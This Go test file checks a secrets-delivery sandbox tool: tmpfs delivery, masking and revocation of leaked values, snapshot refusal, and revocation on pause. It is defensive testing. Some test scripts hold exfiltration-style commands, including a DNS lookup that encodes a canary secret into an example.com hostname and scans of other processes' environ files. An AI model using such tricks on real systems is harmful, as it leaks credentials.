package main

import (
	"bytes"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/custody-project/custody/audit"
)

const lease = `version: 1
secrets:
  canary: {from: "env:CANARY", deliver: {env: CANARY, file: deep/canary}}
`

// TestDelivery: a step gets its value as a variable and as a file in a separate tmpfs, and nothing else has it.
func TestDelivery(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	d.env = []string{"CANARY=" + canary, "OTHER=another-value-of-some-length"}
	d.project(lease + `  other: {from: "env:OTHER", deliver: {env: OTHER}}
steps:
  - name: has
    secrets: [canary]
    run: |
      test "$(cat /run/secrets/deep/canary)" = "$CANARY" || exit 3
      . /run/secrets/env; test "$(cat /run/secrets/deep/canary)" = "$CANARY" || exit 4
      test -z "$OTHER" || exit 5
      grep -q " /run/secrets tmpfs" /proc/mounts || exit 6
      stat -c '%a %U %n' /run/secrets /run/secrets/deep/canary
      ! su nobody -s /bin/sh -c 'cat /run/secrets/deep/canary || cat /proc/'$$'/environ' 2>/dev/null || exit 7
      mount -o remount,rw,exec /run/secrets 2>/dev/null && exit 8
      nohup sh -c 'sleep 1000' >/dev/null 2>&1 &
  - name: has-not
    run: |
      test -z "$CANARY" && test -z "$(ls -A /run/secrets)" || exit 9
      grep -rl . /proc/[0-9]*/environ | xargs -r grep -al CANARY && exit 10 || :
`)
	s := d.must(0, "run", "-q")
	d.contains(s.stdout, "700 root /run/secrets\n", "400 root /run/secrets/deep/canary")
	d.clean("stdout", []byte(s.stdout))
	d.cleanHome()
	got := strings.Join(d.ops("last", "has"), " ")
	d.contains(got, "canary:mint", "canary:deliver", "revoke")
	if len(d.ops("last", "has-not")) > 0 {
		t.Errorf("a step without secrets: %v", d.ops("last", "has-not"))
	}
	for _, r := range d.records("last", "secret") {
		if s := r.Secret; s.Op == audit.SecretDeliver && (!strings.Contains(s.Via, "env") || !strings.Contains(s.Via, "file")) {
			t.Errorf("the delivery is recorded as %+v", *s)
		}
	}
	d.verified("last")
}

// TestShown: a value that a step prints is masked, revoked, and found.
func TestShown(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		action, script, rule string
		code                 int
	}{
		{"revoke", `printf %s "$CANARY" | base64; sleep 12; echo done`, "secret-in-output", 0},
		{"end", `echo "$CANARY"; sleep 100; echo never`, "secret-in-output", 125},
		{"freeze", `echo "$CANARY"; sleep 3; echo never`, "secret-in-output", 124},
		{"end", `getent hosts "$(printf %s "$CANARY" | od -An -tx1 | tr -d ' \n').example.com"; sleep 100; echo never`, "secret-in-dns", 125},
	} {
		t.Run(c.action+" "+c.rule, func(t *testing.T) {
			t.Parallel()
			d := newDoor(t)
			d.env = []string{"CANARY=" + canary}
			limit := "8s"
			if c.code == 0 {
				limit = "60s"
			}
			d.project(lease + "anomaly: " + c.action + "\nlimits: {time: " + limit + "}\n")
			s := d.must(c.code, "run", "--secret", "canary", "--", "sh", "-c", c.script)
			d.clean("stdout", []byte(s.stdout))
			d.contains(s.stderr, "canary", "revoked")
			if strings.Contains(s.stdout, "never") || c.code == 0 && !strings.Contains(s.stdout, "done") {
				t.Errorf("the step said %q", s.stdout)
			}
			found := slices.DeleteFunc(d.findings("last"), func(f audit.Finding) bool { return f.Secret == "" })
			if len(found) == 0 || string(found[0].Rule) != c.rule || found[0].Secret != "canary" || found[0].Seq == 0 || found[0].Action != c.action {
				t.Fatalf("findings: %+v", found)
			}
			var shown, revoked audit.Record
			for _, r := range d.records("last") {
				if r.Seq == found[0].Seq {
					shown = r
				}
				if r.Kind == audit.KindSecret && r.Secret.Op == audit.SecretRevoke && revoked.Seq == 0 {
					revoked = r
				}
			}
			if took := revoked.Time.Sub(shown.Time).Seconds(); revoked.Seq == 0 || took > 10 || took < 0 { // not only at the end of the step
				t.Errorf("revoked %.3f s after record %d, which shows it", took, shown.Seq)
			}
			d.cleanHome()
			d.verified("last")
		})
	}
}

// TestSnapshot: a memory image is not made while a step has a value, and holds
// none when it is.
func TestSnapshot(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	d.env = []string{"CANARY=" + canary}
	d.project(lease + `steps:
  - {name: has, run: 'cp /run/secrets/deep/canary /dev/shm/x; rm /dev/shm/x; echo "begun !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!!"; sleep 1000', secrets: [canary]}
`)
	cmd, out := d.begun("run", "-q")
	go func() {
		for {
			if _, err := out.Read(make([]byte, 4096)); err != nil {
				return
			}
		}
	}()
	image := filepath.Join(d.dir, "memory")
	s := d.must(125, "snapshot", "last", "-o", image)
	d.contains(s.stderr, "canary", "--end-step")
	if _, err := os.Stat(image); err == nil {
		t.Error("an image was left that holds a credential")
	}
	d.must(0, "snapshot", "last", "-o", image, "--end-step")
	cmd.Wait()
	b, err := os.ReadFile(image)
	if err != nil || len(b) < 500<<20 || !bytes.HasPrefix(b, []byte("\x7fELF")) {
		t.Fatalf("%d bytes, %v", len(b), err)
	}
	d.without(encodings(), "the memory image", b) // digests of files are in the guest's memory: docs/threat-model.md
	if !bytes.Contains(b, []byte("custody-guest")) {
		t.Error("the image has nothing of the guest")
	}
	d.cleanHome()
	d.verified("last")
}

// TestPause: a pause first revokes the credentials; the sandbox continues without them.
func TestPause(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	d.env = []string{"CANARY=" + canary}
	d.project(lease + `steps:
  - {name: has, run: 'echo "begun !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!!"; while test -e /run/secrets/deep/canary && test -s /run/secrets/deep/canary; do sleep 0.2; done; sleep 2; echo wiped', secrets: [canary]}
`) // the files are wiped before the freeze: the step goes on for long enough to be frozen
	var all bytes.Buffer
	cmd, out := d.begun("run", "-q")
	d.must(0, "pause", "last")
	for deadline := time.Now().Add(time.Minute); ; time.Sleep(100 * time.Millisecond) { // the store has it after a moment
		s := d.custody("timeline", "last", "--at", "+1h")
		if strings.Contains(s.stdout, "frozen") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the sandbox is not frozen: %s", s.stdout)
		}
	}
	d.contains(strings.Join(d.ops("last", "has"), " "), "revoke")
	d.must(0, "resume", "last")
	d.must(125, "resume", "last")
	all.ReadFrom(out)
	cmd.Wait()
	if cmd.ProcessState.ExitCode() != 0 || !strings.Contains(all.String(), "wiped") {
		t.Errorf("exit %d, %q", cmd.ProcessState.ExitCode(), all.String())
	}
	d.verified("last")
}

// begun starts a call and returns when its command has printed that it started.
func (d *door) begun(args ...string) (*exec.Cmd, io.Reader) {
	d.Helper()
	return d.begunTo(nil, args...)
}

func (d *door) begunTo(stderr io.Writer, args ...string) (*exec.Cmd, io.Reader) {
	d.Helper()
	cmd := d.command(args...)
	cmd.Stderr = stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		d.Fatal(err)
	}
	d.start(cmd)
	awaitWord(d.T, out, "begun")
	return cmd, out
}

// awaitWord reads until a word has arrived. A step's output is held back while it could be the beginning of a value, so
// the step must print more after the word.
func awaitWord(t *testing.T, r io.Reader, word string) {
	t.Helper()
	var got []byte
	for b := make([]byte, 256); !bytes.Contains(got, []byte(word)); {
		n, err := r.Read(b)
		if got = append(got, b[:n]...); err != nil && !bytes.Contains(got, []byte(word)) {
			t.Fatalf("%q, %v", got, err)
		}
	}
}
